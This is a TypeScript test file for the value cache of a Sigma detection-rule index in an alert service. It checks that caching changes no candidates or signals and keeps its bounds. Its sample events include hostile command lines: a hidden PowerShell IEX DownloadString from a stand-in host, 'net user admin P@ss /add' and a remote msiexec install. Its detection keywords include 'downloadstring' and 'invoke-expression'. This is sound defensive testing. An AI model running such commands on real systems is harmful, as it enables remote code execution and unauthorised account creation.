/**
 * The Sigma index's value cache (detect/sigma/value-cache.ts): a repeated field value replays the
 * lists its lookup handed out instead of lower-casing and scanning again. It must change nothing
 * (the same candidates, in the same order, and the same signals as the index without it, for
 * every event: repeated values, case variants, non-ASCII and values lower-casing to another
 * length), keep its entry and byte bounds whatever it is fed, and leave values over its length
 * bound (or lookups over its list bound) to the uncached path.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'yaml';
import type { LogEvent } from '../../alert-service/src/generated/schema-types.js';
import { compileSigmaDocuments } from '../../alert-service/src/detect/sigma/load.js';
import { PrefilterIndex, prefilterDefaults } from '../../alert-service/src/detect/sigma/prefilter.js';
import { DEFAULT_VALUE_CACHE, ValueCache, type ValueCacheLimits } from '../../alert-service/src/detect/sigma/value-cache.js';
import { DetectionEngine, DEFAULT_LIMITS } from '../../alert-service/src/detect/engine.js';
import type { CompiledRule } from '../../alert-service/src/detect/compiled.js';
import { mulberry32 } from '../../alert-service/src/anomaly/forest/rng.js';
import { CollectSink, ManualClock, T0, win } from './helpers.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const OFF: ValueCacheLimits = { ...DEFAULT_VALUE_CACHE, maxEntries: 0 };

function rules(yamls: string[]): CompiledRule[] {
  const docs = yamls.map((y, i) => ({ file: `r${i}.yml`, doc: parse(y) as Record<string, unknown> }));
  const { rules: out, skipped } = compileSigmaDocuments(docs, { defaultQuietSec: 900 });
  assert.deepEqual(skipped, []);
  return out;
}

const proc = (id: string, detection: string) => `title: ${id}\nid: ${id}\nlogsource: {product: windows, category: process_creation}\ndetection:\n${detection}\nlevel: high`;
const list = (vs: string[]) => vs.map((v) => `      - '${v}'`).join('\n');
const hex = (c: string, n: number) => c.repeat(n);

/** Every path of a field lookup: eq, suffix, prefix, many contains literals, a few, hash pieces, two necessary sets, a veto. */
const RULES = rules([
  proc('eq', "  sel:\n    OriginalFileName: 'CMD.EXE'\n  condition: sel"),
  proc('suffix', "  sel:\n    Image|endswith:\n      - '\\rundll32.exe'\n      - '\\ınstall.exe'\n  condition: sel"),
  proc('prefix', "  sel:\n    CommandLine|startswith: 'powershell'\n  condition: sel"),
  proc('contains-many', `  sel:\n    CommandLine|contains:\n${list(['-enc ', 'downloadstring', 'invoke-expression', 'i̇nstall', 'кот', '\\appdata\\', 'bypass', 'hidden', 'frombase64', 'net user', 'kelvin'])}\n  condition: sel`),
  proc('contains-few', `  sel:\n    Product|contains:\n${list(['Sysinternals', 'NirSoft'])}\n  condition: sel`),
  proc('hashes', `  sel:\n    Hashes|contains:\n${list(Array.from({ length: 9 }, (_, i) => `MD5=${hex(i.toString(16).toUpperCase(), 32)}`))}\n  condition: sel`),
  proc('two-sets', "  sel:\n    ParentImage|endswith: '\\winword.exe'\n    CommandLine|contains: 'http'\n  condition: sel"),
  proc('veto', "  sel:\n    CommandLine|re: '^.{0,12}$'\n  filter:\n    Image|endswith: '\\svchost.exe'\n  condition: sel and not filter"),
]);

const IMAGES = ['C:\\Windows\\System32\\rundll32.exe', 'C:\\WINDOWS\\SYSTEM32\\RUNDLL32.EXE', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Temp\\İnstall.exe', 'C:\\Temp\\ınstall.exe', 'C:\\Tools\\\u212Aelvin.exe', 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE'];
const PARENTS = ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\svchost.exe'];
const LINES = [
  'powershell -enc SQBFAFgA',
  'POWERSHELL.EXE -NoP -W Hidden -C IEX (New-Object Net.WebClient).DownloadString("http://x")',
  'cmd /c net user admin P@ss /add',
  'svchost -k x',
  'C:\\Users\\a\\AppData\\Local\\Temp\\İnstall.exe /S',
  'rundll32 КОТ.dll,Run',
  'notepad.exe C:\\\u212Aelvin\\notes.txt',
  'msiexec /i http://example.com/p.msi',
  'x'.repeat(600) + ' -enc ', // over the default length bound
  '',
];
const PRODUCTS = ['Sysinternals PsExec', 'SYSINTERNALS', 'Microsoft® Windows® Operating System', 'NirSoft NirCmd', 'İnstaller'];
const HASHES = [`SHA1=${hex('A', 40)},MD5=${hex('3', 32)}`, `MD5=${hex('C', 32)},IMPHASH=${hex('D', 32)}`, `md5=${hex('a', 32)}`, `MD5=${hex('1', 31)}`];
const NAMES = ['cmd.exe', 'Cmd.Exe', 'CMD.EXE', 'powershell.exe', 'ÇMD.EXE'];

/** Seeded events drawing from small pools, so values repeat (hits), with case flips, non-ASCII and unique tokens (misses). */
function events(n: number, seed: number): LogEvent[] {
  const r = mulberry32(seed);
  const pick = <T>(xs: readonly T[]) => xs[r.int(xs.length)]!;
  const flip = (s: string) => (r.next() < 0.2 ? [...s].map((c) => (r.next() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join('') : s);
  return Array.from({ length: n }, (_, i) => {
    const data: Record<string, string> = { Image: flip(pick(IMAGES)), ParentImage: flip(pick(PARENTS)), CommandLine: flip(pick(LINES)) + (r.next() < 0.3 ? ` --pid=${r.int(1e6)}` : ''), Product: pick(PRODUCTS), Hashes: pick(HASHES), OriginalFileName: pick(NAMES) };
    if (r.next() < 0.1) delete data.CommandLine;
    return win(T0 + i * 1000, 1, SYSMON, data, {}, `host${r.int(3)}`);
  });
}

/** The rule ids the index hands out for each event, in order; each index gets its own copies (the lower-case memo is per event object). */
function candidateIds(index: PrefilterIndex<CompiledRule>, evs: readonly LogEvent[]): string[][] {
  return evs.map((e) => index.candidates(structuredClone(e), e.source.channel!.toLowerCase()).map((x) => x.id));
}

function signals(limits: ValueCacheLimits, evs: readonly LogEvent[]): string[] {
  const saved = prefilterDefaults.valueCache;
  prefilterDefaults.valueCache = limits;
  try {
    const sink = new CollectSink();
    new DetectionEngine(RULES, sink, new ManualClock(Date.UTC(2030, 0, 1)), DEFAULT_LIMITS).process(evs.map((e) => structuredClone(e)));
    return sink.signals.map((s) => JSON.stringify(s));
  } finally {
    prefilterDefaults.valueCache = saved;
  }
}

const prefiltered = RULES.filter((r) => r.prefilter);

test('with the cache the index hands out the same candidates, in order, and the engine the same signals as without it', () => {
  const evs = events(3000, 14);
  const off = candidateIds(new PrefilterIndex(prefiltered, { valueCache: OFF }), evs);
  for (const limits of [DEFAULT_VALUE_CACHE, { maxEntries: 16, maxBytes: 4096, maxChars: 40, maxLists: 1 }]) {
    const index = new PrefilterIndex(prefiltered, { valueCache: limits });
    assert.deepEqual(candidateIds(index, evs), off);
    const stats = index.valueCache.stats();
    // The cache was used, on every field the rules index.
    for (const field of ['Image', 'ParentImage', 'CommandLine', 'Product', 'Hashes', 'OriginalFileName']) assert.ok(stats.get(field)!.hits > 0, `${field} hit`);
  }
  // Every rule woke somewhere, so the comparison covered each path.
  const woke = new Set(off.flat());
  for (const r of prefiltered) assert.ok(woke.has(r.id), `${r.id} candidate somewhere`);
  const base = signals(OFF, evs);
  assert.ok(base.length > 10);
  assert.deepEqual(signals(DEFAULT_VALUE_CACHE, evs), base);
  assert.deepEqual(signals({ maxEntries: 8, maxBytes: 2048, maxChars: 24, maxLists: 1 }, evs), base);
});

test('case variants and non-ASCII values are cached apart and each answered as the uncached index answers', () => {
  // 'İ' lower-cases to two characters, the Kelvin sign to ASCII 'k', 'ı' stays non-ASCII.
  const values = ['C:\\Temp\\İnstall.exe', 'C:\\TEMP\\İNSTALL.EXE', 'C:\\temp\\ınstall.exe', 'C:\\Temp\\Install.exe', 'notepad \u212Aelvin', 'notepad kelvin', 'rundll32 кот', 'RUNDLL32 КОТ', 'x i̇nstall', 'x İnstall'];
  const evs = [...values, ...values, ...values].map((v, i) => win(T0 + i, 1, SYSMON, { Image: v, CommandLine: v }));
  const on = new PrefilterIndex(prefiltered, { valueCache: DEFAULT_VALUE_CACHE });
  const expected = candidateIds(new PrefilterIndex(prefiltered, { valueCache: OFF }), evs);
  assert.deepEqual(candidateIds(on, evs), expected);
  // The first round missed once per distinct value, the next two hit.
  assert.deepEqual(on.valueCache.stats().get('CommandLine'), { hits: 2 * values.length, misses: values.length, bypassed: 0 });
  // And every rule that matches on its own is among them (the rules' own case folding: 'İ' is
  // 'i̇' lower-cased, so only the dotless 'ı' value ends in '\\ınstall.exe').
  const woken = candidateIds(on, evs);
  evs.forEach((e, i) => {
    for (const r of RULES) if (r.evaluate(structuredClone(e)) !== null) assert.ok(woken[i]!.includes(r.id), `${r.id} on ${JSON.stringify(values[i % values.length])}`);
  });
  const matched = (v: string) => RULES.filter((r) => r.evaluate(win(T0, 1, SYSMON, { Image: v, CommandLine: v })) !== null).map((r) => r.id).sort();
  assert.deepEqual(matched('C:\\temp\\ınstall.exe'), ['suffix']);
  assert.deepEqual(matched('C:\\TEMP\\İNSTALL.EXE'), ['contains-many']); // 'i̇nstall' in it, not the dotless suffix
  assert.deepEqual(matched('notepad \u212Aelvin'), ['contains-many']);
  assert.deepEqual(matched('RUNDLL32 КОТ'), ['contains-many', 'veto']); // 12 characters: the regex holds too
  assert.deepEqual(matched('x İnstall'), ['contains-many', 'veto']);
});

test('values longer than the length bound, and lookups handing out more lists than the list bound, bypass the cache', () => {
  const limits: ValueCacheLimits = { maxEntries: 1024, maxBytes: 1 << 20, maxChars: 20, maxLists: 1 };
  const long = 'powershell -enc ' + 'A'.repeat(10); // 26 characters
  const many = 'powershell bypass'; // 17 characters, prefix and contains: two lists
  const one = 'cmd bypass'; // one list
  const evs = [long, long, many, many, one, one].map((v, i) => win(T0 + i, 1, SYSMON, { CommandLine: v }));
  const index = new PrefilterIndex(prefiltered, { valueCache: limits });
  assert.deepEqual(candidateIds(index, evs), candidateIds(new PrefilterIndex(prefiltered, { valueCache: OFF }), evs));
  assert.deepEqual(index.valueCache.stats().get('CommandLine'), { hits: 1, misses: 3, bypassed: 4 });
  // Only the short value handing out one list is held.
  assert.equal(index.valueCache.size().entries, 1);
});

test('eviction keeps the entry and byte bounds, and a value in use survives generation swaps', () => {
  const limits: ValueCacheLimits = { maxEntries: 64, maxBytes: 16_384, maxChars: 200, maxLists: 4 };
  const cache = new ValueCache<Int32Array>(limits);
  const tables = [cache.table('A'), cache.table('B'), cache.table('C')];
  const lists = [Int32Array.of(1), Int32Array.of(2)];
  const r = mulberry32(7);
  const hot = 'C:\\Windows\\System32\\svchost.exe';
  tables[0]!.set(hot, hot.toLowerCase(), lists);
  let hotMisses = 0;
  for (let i = 0; i < 5000; i++) {
    const t = tables[i % 3]!;
    const v = `value ${i} ${'x'.repeat(r.int(150))}`;
    t.set(v, v.toLowerCase(), lists.slice(0, 1 + (i % 2)));
    if (i % 10 === 0 && tables[0]!.get(hot) === undefined) hotMisses++;
    const size = cache.size();
    assert.ok(size.entries <= limits.maxEntries, `entries ${size.entries} at ${i}`);
    assert.ok(size.bytes <= limits.maxBytes, `bytes ${size.bytes} at ${i}`);
  }
  assert.ok(cache.swaps > 50);
  assert.equal(hotMisses, 0);
  // An entry too big for half the byte budget is never held.
  const huge = 'y'.repeat(5000);
  const before = cache.size().entries;
  const swaps = cache.swaps;
  tables[1]!.set(huge, huge, lists);
  assert.equal(tables[1]!.get(huge), undefined);
  assert.equal(cache.size().entries, before);
  assert.equal(cache.swaps, swaps);
  // The default bounds as stated: entries and about 8 MB.
  assert.deepEqual(DEFAULT_VALUE_CACHE, { maxEntries: 32_768, maxBytes: 8 << 20, maxChars: 512, maxLists: 64 });
});

test('with the cache off the index holds no table and counts nothing', () => {
  const index = new PrefilterIndex(prefiltered, { valueCache: OFF });
  candidateIds(index, events(50, 3));
  assert.equal(index.valueCache.enabled, false);
  assert.equal(index.valueCache.stats().size, 0);
  assert.equal(index.valueCache.size().entries, 0);
});
